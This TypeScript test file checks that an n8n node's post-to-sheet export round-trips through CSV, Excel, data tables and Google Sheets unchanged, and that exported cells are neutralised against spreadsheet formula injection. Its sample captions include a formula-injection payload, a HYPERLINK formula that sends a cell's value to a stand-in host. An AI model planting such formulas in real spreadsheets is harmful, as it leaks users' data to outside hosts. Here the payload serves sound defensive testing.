import type { INodeExecutionData, INodeParameters } from 'n8n-workflow';

import type { PostStatus } from '../../../sandbox/service';
import type { PostContent } from '../../../sandbox/store/posts';
import { loadNode, nodesOfN8n } from '../../kit/n8nNodes/load';
import { runNode } from '../../kit/n8nNodes/runNode';
import { useWorld, world } from '../../kit/world/useWorld';
import { updateSheet } from './updateRun';

/** Existing posts become a sheet, which goes through a file or a table and comes back without any change. */
const START = '2031-03-01T09:00:00.000Z';
const COUNT = 500;
useWorld({ now: START });

const ACCOUNTS = [
	['acc_tiktok_main'],
	['acc_instagram_main'],
	['acc_tiktok_main', 'acc_instagram_main'],
	['acc_tiktok_travel', 'acc_tiktok_japan', 'acc_instagram_india'],
	['acc_instagram_style'],
];
const CAPTIONS = [
	'The harbor at 6 a.m. ⚓',
	'Two lines\nand a third,\n\nwith "quotes", commas; and a tab\tinside',
	'0042',
	'=SUM(A1:A3) is what we ate',
	'=HYPERLINK("https://host.example?"&A1;"prize")&"!"',
	'+1 for bread',
	'-5 % on bread',
	'- bread\n- cake',
	'2031-04-01',
	'  blanks around  ',
	'Café Zoë – 30 % off 🍮',
	'true: we bake at night',
	null,
];
const HASHTAGS = [[], ['bread'], ['bread', 'sunday', 'café'], ['東京', 'harbor_life']];
const NOTES = [null, 'Ask Ana first', 'Line 1\nLine 2'];
const SOUNDS: ReadonlyArray<PostContent['sound']> = [
	null,
	{ mode: 'trending' },
	{ mode: 'original' },
	{ mode: 'specific', url: 'https://sounds.example/1?a=b' },
	{
		mode: 'specific',
		urlsByPlatform: {
			tiktok: 'https://sounds.example/t',
			instagram: 'https://sounds.example/i',
		},
	},
	{ mode: 'specific' },
];
const TAGS = [[], ['tag:recipes'], ['tag:recipes', 'tag:spring-sale']];
/** The statuses of the accounts of a post, in turn. */
const STATUSES: ReadonlyArray<readonly PostStatus[]> = [
	['pending_approval'],
	['queued'],
	['posted'],
	['posted', 'queued', 'posted'],
	['posted', 'failed'],
	['cancelled'],
	['failed'],
	['cancelled', 'pending_approval'],
	['draft'],
	['posting'],
];

const pick = <T>(list: readonly T[], at: number): T => list[at % list.length] as T;

function contentOf(at: number): PostContent {
	const isCarousel = at % 7 === 0;
	const isVideo = at % 5 === 0 && !isCarousel;
	const media = Array.from({ length: isCarousel ? 3 : 1 }, () => 'upl_seeded_image');
	return {
		mediaKind: isVideo ? 'video' : 'image',
		media,
		caption:
			pick(CAPTIONS, at) === null ? null : `${pick(CAPTIONS, at) ?? ''}${at > 20 ? ` ${at}` : ''}`,
		hashtags: pick(HASHTAGS, at),
		sound: pick(SOUNDS, at),
		notes: pick(NOTES, at),
		contentGroupIds: pick(TAGS, at),
		templateGroupIds: at % 11 === 0 ? ['template:city-guide'] : [],
		instagramPostFormat: at % 4 === 0 ? 'post' : 'reel',
	};
}

/** Puts posts of every kind into the service. */
function seedPosts(): void {
	const { posts, engine, now } = world.service;
	for (let at = 0; at < COUNT; at++) {
		const accountIds = pick(ACCOUNTS, at);
		const post = posts.create({
			postId: `post_seeded_${at}`,
			status: 'draft',
			createdAt: now() - at * 60_000,
			content: contentOf(at),
		});
		// A time for each post, except every sixth: it goes live as soon as possible.
		const time = at % 6 === 0 ? null : now() + (at - 40) * 3_600_000 + 1_234;
		const statuses = pick(STATUSES, at);
		accountIds.forEach((accountId, nth) => {
			const status = pick(statuses, nth);
			posts.addItem(post.seq, {
				accountId,
				status,
				queuedAt: now(),
				approvedAt: now(),
				scheduledAfter: time,
				postedAt: status === 'posted' ? now() - 1_000 : null,
			});
		});
		engine.refreshStatus(post.seq);
	}
}

async function rowsOfPosts(parameters: INodeParameters = {}): Promise<INodeExecutionData[]> {
	const items = await world.items('post.getAll', {
		returnAll: true,
		return: 'rows',
		...parameters,
	});
	return items.map(({ json }) => ({ json }));
}

async function runSheet(items: INodeExecutionData[], options: INodeParameters = {}) {
	const rows = items.map(({ json }) => json);
	const run = await updateSheet(world, rows, { options });
	expect(run.error).toBeUndefined();
	return run;
}

/** Posts that failed for an account, and the draft of the demo, which has no account. */
function failedPosts(): string[] {
	const { posts } = world.service;
	const hasFailed = (seq: number) => {
		const items = posts.items(seq);
		return items.length === 0 || items.some(({ status }) => status === 'failed');
	};
	return posts.all().flatMap(({ seq, postId }) => (hasFailed(seq) ? [postId] : []));
}

type Trip = (items: INodeExecutionData[], folder: string) => Promise<INodeExecutionData[]>;

function throughFile(format: 'csv' | 'xlsx'): Trip {
	return async (items, folder) => {
		const file = await runNode(loadNode(folder, 'Files/ConvertToFile/ConvertToFile'), {
			parameters: { operation: format },
			items,
		});
		return await runNode(loadNode(folder, 'Files/ExtractFromFile/ExtractFromFile'), {
			parameters: { operation: format },
			items: file,
		});
	};
}

/** A data table keeps texts as they are, and adds columns of its own; an empty cell is null. */
const throughDataTable: Trip = async (items, folder) =>
	await runNode(loadNode(folder, 'DataTable/DataTable'), {
		parameters: {
			resource: 'row',
			operation: 'get',
			dataTableId: { __rl: true, mode: 'id', value: 'table' },
			returnAll: true,
		},
		dataTable: items.map(({ json }, at) => ({
			id: at + 1,
			createdAt: new Date(START),
			updatedAt: new Date(START),
			...Object.fromEntries(
				Object.entries(json).map(([name, cell]) => [name, cell === '' ? null : cell]),
			),
		})),
	});

/** Google Sheets writes one table, in which every cell is a text, and gives it back with row numbers. */
const throughGoogleSheets: Trip = async (items, folder) =>
	await runNode(loadNode(folder, 'Google/Sheet/GoogleSheets'), {
		parameters: {
			resource: 'sheet',
			operation: 'read',
			authentication: 'oAuth2',
			documentId: { __rl: true, mode: 'id', value: 'doc' },
			sheetName: { __rl: true, mode: 'id', value: '0' },
		},
		answers: [
			{
				to: '/values/',
				body: {
					values: [
						Object.keys(items[0]?.json ?? {}),
						...items.map(({ json }) => Object.values(json)),
					],
				},
			},
			{
				to: '/v4/spreadsheets/doc',
				body: { sheets: [{ properties: { sheetId: 0, title: 'Posts', gridProperties: {} } }] },
			},
		],
	});

const TRIPS: ReadonlyArray<readonly [string, Trip]> = [
	['a CSV file', throughFile('csv')],
	['an Excel file', throughFile('xlsx')],
	['a data table', throughDataTable],
	['a Google sheet', throughGoogleSheets],
	['nothing', async (items) => await Promise.resolve(items)],
];

test.each(TRIPS)(
	'500 posts of every kind come back through %s without a write',
	async (_name, trip) => {
		const folder = await nodesOfN8n();
		seedPosts();
		const given = await rowsOfPosts();
		expect(given.length).toBeGreaterThanOrEqual(COUNT);
		const { rows, writes } = await runSheet(await trip(given, folder));
		expect(writes).toEqual([]);
		expect(rows).toHaveLength(given.length);
		// The row of a post that failed for an account is not ok, whoever wrote the row.
		const failed = new Set(failedPosts());
		const wrong = rows.filter(({ ok, postId }) => !ok && !failed.has(String(postId)));
		expect(wrong.map(({ postId, issues, caption }) => ({ postId, issues, caption }))).toEqual([]);
		const stated = rows.filter(({ change }) => change !== 'unchanged' && change !== 'refused');
		expect(stated).toEqual([]);
	},
	300_000,
);

test('no cell of a post begins as a formula does in a sheet', async () => {
	seedPosts();
	const cells = (await rowsOfPosts()).flatMap(({ json }) => Object.values(json));
	expect(cells.filter((cell) => /^(?:[=+]|-\w)/.test(String(cell)))).toEqual([]);
	expect(cells).toContain(`'${CAPTIONS[3]}`);
});

test('editing a cell of each of three rows changes exactly these three posts', async () => {
	seedPosts();
	const given = await rowsOfPosts();
	const rowOf = (postId: string) => given.find(({ json }) => json.postId === postId)?.json ?? {};
	const [caption, notes, date] = ['post_seeded_50', 'post_seeded_61', 'post_seeded_70'];
	Object.assign(rowOf(caption), { caption: 'A new caption' });
	Object.assign(rowOf(notes), { notes: 'New notes' });
	Object.assign(rowOf(date), { date: '2031-06-01T10:00:00+02:00' });
	const { rows, writes } = await runSheet(given, { approvedPosts: 'update' });
	const changed = rows.filter(({ change }) => change !== 'unchanged' && change !== 'refused');
	expect(changed.map(({ postId, change }) => [postId, change])).toEqual([
		[caption, 'change caption'],
		[notes, 'change notes'],
		[date, expect.stringMatching(/^reschedule .* → 2031-06-01 10:00 Europe\/Berlin$/)],
	]);
	expect(writes.map(({ method, path }) => `${method} ${path}`).sort()).toEqual([
		`DELETE /v2/posts/${date}`,
		`PATCH /v2/posts/${caption}`,
		`PATCH /v2/posts/${notes}`,
		`POST /v2/posts/${date}/queue`,
	]);
	const bodies = writes.filter(({ method }) => method === 'PATCH').map(({ body }) => body);
	expect(bodies).toEqual(
		expect.arrayContaining([{ caption: 'A new caption' }, { notes: 'New notes' }]),
	);
});

test('a row has the columns of the template, and says what the service does not return once', async () => {
	const result = await world.run('post.getAll', { returnAll: true, return: 'rows' });
	const waiting = result.items.find(({ json }) => json.postId === 'post_demo_pending');
	expect(waiting?.json).toMatchObject({
		account: '@northwind.jp',
		media: '',
		status: 'pending_approval',
		issues: '–',
		change: 'unchanged',
		syncState: expect.stringMatching(/^s1[\w.-]{64}$/),
	});
	const names = result.items.map(({ json }) => Object.keys(json).join());
	expect(new Set(names).size).toBe(1);
	const said = result.hints.filter(({ message }) => message.includes('does not return media'));
	expect(said).toHaveLength(1);
});

test('distinguishes accounts of one name, and a key without accounts:read still gives rows', async () => {
	const { accounts } = world.service;
	accounts.create({ accountId: 'acc_twin', platform: 'instagram', username: 'northwind.jp' });
	const accountOf = async (apiKey: string) => {
		const items = await world.items('post.getAll', { returnAll: true, return: 'rows' }, { apiKey });
		return items.find(({ json }) => json.postId === 'post_demo_pending')?.json.account;
	};
	const { keys } = world.sandbox;
	expect(await accountOf(keys.full)).toBe('@northwind.jp (tiktok)');
	expect(await accountOf(keys['posts:read'])).toBe('@northwind.jp');
});

test.each([true, false])(
	'items of Get Many with Simplify %s are refused, with the way to rows named',
	async (simplify) => {
		const items = await world.items('post.getAll', { returnAll: true, simplify });
		const { rows, writes } = await runSheet(items.map(({ json }) => ({ json })));
		expect(writes).toEqual([]);
		expect(rows).toHaveLength(items.length);
		for (const { ok, issues } of rows) {
			expect(ok).toBe(false);
			expect(issues).toContain("In Post > Get Many, set 'Return' to 'Rows of a Sheet'");
		}
	},
);

test.each([0, 720, 880, 960, 60_000, 840_000])(
	'a sheet of posts writes nothing %s ms after it was made, though the time of a post passes',
	async (ms) => {
		seedPosts();
		const given = await rowsOfPosts();
		world.clock.advance(ms);
		const { writes } = await runSheet(given);
		expect(writes.map(({ method, path }) => `${method} ${path}`)).toEqual([]);
	},
);
